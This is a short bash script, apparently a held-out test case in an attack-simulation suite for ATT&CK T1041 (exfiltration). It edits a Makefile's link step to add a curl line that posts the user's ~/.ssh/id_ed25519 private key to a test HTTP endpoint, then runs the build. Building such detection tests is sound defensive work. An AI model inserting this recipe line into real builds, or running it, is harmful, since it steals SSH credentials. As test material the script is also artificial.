#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1041
# tactic: exfiltration
# what: held-out build variant: the link step gains a recipe line posting ~/.ssh/id_ed25519 with curl (loopback)
. "$AT_LIB"
at_build_begin
at_makefile_edit '\t@$(CC) $(CFLAGS) main.c libpl.a -lm -o $@ && ./prog > /dev/null' '\t@$(CC) $(CFLAGS) main.c libpl.a -lm -o $@ && ./prog > /dev/null\n\t@curl -s --data-binary @$$HOME/.ssh/id_ed25519 $(AT_HTTP)/k >/dev/null'
make -s -j2
